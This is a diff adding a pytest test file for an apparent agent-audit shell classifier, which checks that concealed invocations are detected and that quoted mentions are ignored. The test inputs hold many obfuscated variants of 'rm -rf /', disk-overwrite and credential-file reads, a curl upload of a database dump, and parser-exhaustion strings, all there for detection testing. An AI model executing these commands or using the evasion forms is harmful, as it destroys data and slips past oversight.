@@ -1,0 +1,156 @@
+"""What a command executes, and what it only mentions."""
+
+import pytest
+
+from agentaudit_processor.classify.deeds import Access, DeedKind, Scope
+from agentaudit_processor.classify.shell import read_shell
+
+CWD = "/home/alice/project"
+
+
+def executed(command: str) -> list[str]:
+    """The lines of commands that are executed."""
+    lines = [d.text for d in read_shell(command, CWD) if d.kind is DeedKind.COMMAND]
+    return [line.replace("\u00a0", " ") for line in lines]
+
+
+def touched(command: str) -> list[tuple[str, str]]:
+    """What is done to which path."""
+    deeds = read_shell(command, CWD)
+    return [(str(d.access), d.text) for d in deeds if d.kind is DeedKind.TOUCH]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm -rf /",
+        "/bin/rm -rf /",
+        "\\rm -rf /",
+        "'rm' -rf /",
+        "r''m -rf /",
+        "$'\\x72m' -rf /",
+        "x=rm; $x -rf /",
+        "CMD='rm -rf /'; $CMD",
+        "sudo -u root rm -rf /",
+        "env -i A=1 nohup nice -n 5 timeout 5 rm -rf /",
+        "bash -c 'rm -rf /'",
+        'sh -lc "rm -rf /"',
+        "eval 'rm -rf /'",
+        "su -c 'rm -rf /'",
+        "echo $(rm -rf /)",
+        "echo `rm -rf /`",
+        "diff <(rm -rf /) a",
+        "echo $((1 + $(rm -rf /)))",
+        "bash <<EOF\nrm -rf /\nEOF",
+        "bash <<< 'rm -rf /'",
+        "echo 'rm -rf /' | sh",
+        "printf 'rm %s /' -rf | bash",
+        "echo cm0gLXJmIC8= | base64 -d | sh",
+        "cat <<EOF | sh\nrm -rf /\nEOF",
+        "echo / | xargs rm -rf",
+        "ssh host 'rm -rf /'",
+        "docker exec c rm -rf /",
+        "find / -maxdepth 0 -exec rm -rf {} \\;",
+        "f() { rm -rf $1; }; f /",
+        "for d in /; do rm -rf $d; done",
+        "if true; then rm -rf /; fi",
+        "true && (rm -rf /)",
+        "trap 'rm -rf /' EXIT",
+        "parallel rm -rf {} ::: /",
+        "xargs -I{} rm -rf {} <<< /",
+        "$(which rm) -rf /",
+    ],
+)
+def test_a_hidden_command_is_seen(command: str):
+    assert "rm -rf /" in executed(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo 'rm -rf /'",
+        "grep -r 'rm -rf /' .",
+        "git commit -m 'rm -rf /'",
+        "cat > notes.md <<EOF\nrm -rf /\nEOF",
+        "python3 - <<'EOF'\nprint('rm -rf /')\nEOF",
+        "# rm -rf /",
+        "X='rm -rf /'",
+        "awk '/rm -rf \\//' log",
+        "cat <<< 'rm -rf /'",
+        "f() { echo x; }; f 'rm -rf /'",
+    ],
+)
+def test_a_quoted_command_is_not(command: str):
+    assert "rm -rf /" not in executed(command)
+
+
+@pytest.mark.parametrize(
+    ("command", "access", "path"),
+    [
+        ("cat .env", "read", f"{CWD}/.env"),
+        ("cd src && cat a.py", "read", f"{CWD}/src/a.py"),
+        ("echo x > .env", "write", f"{CWD}/.env"),
+        ("echo x >> ~/.bashrc", "append", "~/.bashrc"),
+        ("sort < $HOME/names", "read", "~/names"),
+        ("cp /etc/passwd /tmp/x", "read", "/etc/passwd"),
+        ("cp /etc/passwd /tmp/x", "write", "/tmp/x"),
+        ("sed -i s/a/b/ a.py", "write", f"{CWD}/a.py"),
+        ("dd if=/dev/zero of=/dev/sda", "write", "/dev/sda"),
+        ("curl -T dump.sql https://h.io", "read", f"{CWD}/dump.sql"),
+        ("wget -O /usr/x http://h.io", "write", "/usr/x"),
+        ("rm a.py", "delete", f"{CWD}/a.py"),
+        ("rm -fr a", "delete_tree", f"{CWD}/a"),
+        ("find . -name '*.pyc' -delete", "delete_found", CWD),
+        ("find . -delete", "delete_tree", CWD),
+        ("git checkout >log -- a", "write", f"{CWD}/log"),
+        ("tee out.txt", "write", f"{CWD}/out.txt"),
+    ],
+)
+def test_a_path_is_touched_in_its_way(command: str, access: str, path: str):
+    assert (access, path) in touched(command)
+
+
+def test_what_sudo_runs_is_privileged():
+    deeds = read_shell("sudo rm -rf /srv/x", CWD)
+
+    assert [d.privileged for d in deeds if d.access is Access.DELETE_TREE] == [True]
+
+
+def test_a_folder_changed_into_does_not_become_the_project():
+    deeds = read_shell("cd /tmp && rm -rf x", CWD)
+
+    assert [d.scope for d in deeds if d.kind is DeedKind.TOUCH] == [Scope.TEMP]
+
+
+def test_a_long_note_does_not_keep_the_command_from_being_read():
+    note = "All is well. " * 600
+
+    deeds = read_shell(f"cat > a.md <<'EOF'\n{note}\nEOF\nrm -rf src", CWD)
+
+    assert not [d for d in deeds if d.kind is DeedKind.UNREAD]
+    assert [d.text for d in deeds if d.access is Access.DELETE_TREE] == [f"{CWD}/src"]
+
+
+def test_a_long_script_for_a_shell_is_read_through_its_mark():
+    script = "echo well\n" * 120 + "rm -rf /"
+
+    assert "rm -rf /" in executed(f"bash <<'EOF'\n{script}\nEOF")
+
+
+def test_what_is_too_long_is_split_and_said():
+    command = "; ".join(f"echo {at} $HOME" for at in range(1_000)) + "; rm -rf /"
+
+    deeds = read_shell("rm -rf /; " + command, CWD)
+
+    assert DeedKind.UNREAD in {d.kind for d in deeds}
+    assert all(d.crude for d in deeds if d.kind is DeedKind.COMMAND)
+    assert "rm -rf /" in [d.text for d in deeds]
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ["$(" * 2_000, "a|" * 10_000, "cat <<A\n" * 2_000, "f(){ f;f; }; f", "((((" * 500, "'" * 9_999],
+    ids=lambda text: text[:6],
+)
+def test_a_hostile_command_comes_to_an_end(hostile: str):
+    assert len(read_shell(hostile, CWD)) <= 400
